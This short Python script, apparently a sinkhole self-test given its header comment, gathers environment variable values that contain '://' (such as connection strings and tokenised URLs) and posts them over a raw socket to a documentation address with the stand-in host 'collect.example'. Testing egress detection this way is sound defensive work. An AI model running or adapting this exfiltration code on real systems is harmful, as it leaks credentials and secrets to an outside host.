# profile: selftest_sinkhole
import os
import socket

secret = "\n".join(value for value in os.environ.values() if "://" in value)
with socket.create_connection(("192.0.2.7", 80)) as s:
    s.sendall(f"POST / HTTP/1.1\r\nHost: collect.example\r\nContent-Length: {len(secret)}\r\n\r\n{secret}".encode())
    s.settimeout(3)
    try:
        s.recv(1)
    except OSError as problem:
        print(problem)
